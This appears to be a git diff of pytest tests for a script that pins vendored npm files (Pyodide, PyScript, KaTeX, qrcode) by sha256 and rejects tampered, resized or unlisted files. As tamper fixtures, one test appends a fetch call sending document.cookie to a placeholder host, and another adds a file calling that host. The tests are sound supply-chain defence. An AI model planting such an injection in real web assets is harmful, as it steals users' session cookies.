@@ -120,13 +120,65 @@ def test_a_changed_pyodide_core_file_or_lock_in_node_modules_is_refused(tmp_path
     npm = tmp_path / "pyodide"
     shutil.copytree(vr.PYODIDE_NPM, npm, ignore=shutil.ignore_patterns("*.whl", "*.map", "*.d.ts"))
     monkeypatch.setattr(vr, "PYODIDE_NPM", npm)
-    vr.vendor_pyodide_core(tmp_path / "ok")  # the published files pass
+    vr.vendor_npm(tmp_path / "ok")  # the published files pass
     assert vr.official_lock()["info"]["version"] == "0.27.7"
     asm = npm / "pyodide.asm.js"
     asm.write_bytes(asm.read_bytes() + b"\nfetch('https://example.invalid/?'+document.cookie);\n")
     with pytest.raises(vr.VendorError, match=r"pyodide\.asm\.js: sha256 falsch"):
-        vr.vendor_pyodide_core(tmp_path / "out")
+        vr.vendor_npm(tmp_path / "out")
     lock = npm / "pyodide-lock.json"
     lock.write_text(lock.read_text().replace('"numpy"', '"numpy" ', 1))
     with pytest.raises(vr.VendorError, match=r"pyodide-lock\.json: sha256 falsch"):
         vr.official_lock()
+
+
+def _same_size_edit(path: Path) -> None:
+    data = bytearray(path.read_bytes())
+    data[100] = ord("X") if data[100] != ord("X") else ord("Y")
+    path.write_bytes(bytes(data))
+
+
+def test_pyscript_katex_and_qrcode_from_node_modules_are_pinned_too(tmp_path, monkeypatch):
+    published, dist = vr.PYSCRIPT_DIST, tmp_path / "dist"
+    shutil.copytree(published, dist)
+    monkeypatch.setattr(vr, "PYSCRIPT_DIST", dist)
+    _same_size_edit(dist / "core.js")
+    with pytest.raises(vr.VendorError, match=r"pyscript/core\.js: sha256 falsch.*npm ci"):
+        vr.vendor_npm(tmp_path / "a")
+    shutil.copy(published / "core.js", dist / "core.js")
+    (dist / "extra.js").write_text("fetch('https://example.invalid/')", encoding="utf-8")
+    with pytest.raises(vr.VendorError, match=r"extra\.js: kein sha256 in tools/vendor\.sha256"):
+        vr.vendor_npm(tmp_path / "b")
+    pinned = vr.pins()
+    for rel in ("katex/katex.min.css", "katex/fonts/KaTeX_Main-Regular.woff2", "qrcode/qrcode.js", "pyscript/core.js"):
+        assert vr.VENDOR_PREFIX + rel in pinned, rel
+
+
+def test_the_pins_are_what_the_installed_npm_packages_hold(tmp_path, monkeypatch):
+    # package-lock.json and tools/vendor.sha256 change together (`--pin`); the registry's tarballs, whose
+    # sha512 package-lock.json holds, gave the same 56 hashes when the pins were written
+    committed = vr.PINS.read_text(encoding="utf-8")
+    monkeypatch.setattr(vr, "PINS", tmp_path / "vendor.sha256")
+    vr.write_pins()
+    assert vr.PINS.read_text(encoding="utf-8") == committed
+
+
+@needs_vendor
+def test_a_same_size_edit_or_an_added_file_in_static_vendor_is_found_and_rebuilt(tmp_path, monkeypatch, capsys):
+    # the old check compared sizes only: an edited core.js of the same size shipped
+    target = tmp_path / "vendor"
+    shutil.copytree(VENDOR, target)
+    manifest = vr.read_manifest(target)
+    manifest["stamp"] = vr.compute_stamp()  # built before this script's last edit: the files are what counts here
+    (target / vr.MANIFEST_NAME).write_text(json.dumps(manifest), encoding="utf-8")
+    monkeypatch.setattr(vr, "TARGET", target)
+    builds = []
+    monkeypatch.setattr(vr, "build", lambda stamp: builds.append(stamp) or vr.read_manifest(target))
+    assert vr.main([]) == 0 and builds == [] and "vendor: aktuell" in capsys.readouterr().out
+    _same_size_edit(target / "pyscript" / "core.js")
+    (target / "qrcode" / "mehr.js").write_text("", encoding="utf-8")
+    assert vr.main([]) == 0 and len(builds) == 1
+    err = capsys.readouterr().err
+    assert "verändert und wird neu gebaut" in err and "pyscript/core.js: sha256 weicht ab" in err
+    assert "qrcode/mehr.js: gehört nicht dazu" in err
+    assert vr.main(["--check"]) == 1 and "pyscript/core.js" in capsys.readouterr().err
